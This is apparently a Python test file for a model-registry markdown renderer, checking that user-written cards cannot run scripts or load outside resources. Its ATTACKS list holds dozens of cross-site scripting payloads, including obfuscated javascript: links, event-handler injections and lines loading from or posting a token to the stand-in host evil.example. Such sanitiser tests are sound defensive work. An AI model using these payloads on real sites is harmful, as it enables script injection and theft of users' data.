"""Cards are other people's text: whatever it holds, nothing of it runs, loads from elsewhere, or looks like ours."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from registry.web.markdown import render_card, render_markdown

ALLOWED = set(
    "a blockquote br code del em h1 h2 h3 h4 h5 h6 hr img li ol p pre s strong table tbody td th thead tr ul".split()  # noqa: SIM905
)
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://localhost/1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/\\evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:text/html,hi)",
    "![x](http://evil.example/p?x 'onerror=alert(1)')",
    '![" onerror="alert(1)](x)',
    '[x](x "title\\" onclick=\\"alert(1)")',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=token></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<p class=badge id=main>x</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "<https://evil.example/\"onmouseover='alert(1)'>",
    "<javascript:alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "\u2028<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<template><script>alert(1)</script></template>",
    "<a href='//evil.example' target=_top ping=//evil.example>x</a>",
]


class Reader(HTMLParser):
    """Reads what a browser would see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came through: {data}")


def check(html: str) -> None:
    reader = Reader()
    reader.feed(html)
    for tag, attributes in reader.seen:
        assert tag in ALLOWED, html
        assert set(attributes) <= {"href", "src", "alt", "title", "class", "start", "rel"}, html
        href, src = attributes.get("href"), attributes.get("src")
        if href is not None:
            assert not re.match(r"[\s\x00-\x20]*(javascript|vbscript|data|file|blob)\s*:", href, re.IGNORECASE), html
            assert attributes["rel"] == "nofollow noopener noreferrer", html
        if src is not None:
            own = src.startswith("/") and src[1:2] not in {"/", "\\"}
            assert own or re.match(r"data:image/(png|jpeg|gif|webp);base64,", src), html
        if "class" in attributes:
            assert tag == "code"
            assert re.fullmatch(r"language-[\w-]+", attributes["class"] or ""), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_card_runs_or_loads(attack: str) -> None:
    check(render_markdown(attack))
    check(render_card(f"---\ntitle: x\n---\n{attack}").html)


@given(st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "> ", "* ", "`", "](", "<", "&", '"', "\\"]), max_size=6))
def test_no_mixture_of_attacks_runs_or_loads(parts: list[str]) -> None:
    check(render_markdown("".join(parts)))


def test_a_card_keeps_what_is_harmless() -> None:
    card = render_card(
        "---\nlicense: mit\n---\n# Title\n\n*so* **it** ~~goes~~ [on](https://example.org 'there')\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n"
        "![dot](data:image/png;base64,AAAA) ![own](/static/favicon.svg)\n"
    )
    assert card.front_matter == "license: mit"
    for part in ("<h2>Title</h2>", "<em>so</em>", "<s>goes</s>", "<td>1</td>", 'class="language-python"'):
        assert part in card.html
    assert 'href="https://example.org"' in card.html
    assert 'src="data:image/png;base64,AAAA"' in card.html
    assert 'src="/static/favicon.svg"' in card.html


def test_front_matter_that_never_ends_is_text() -> None:
    card = render_card("---\nlicense: mit\n")
    assert card.front_matter == ""
    assert "license: mit" in card.html
    assert render_card("") == render_card("\n")
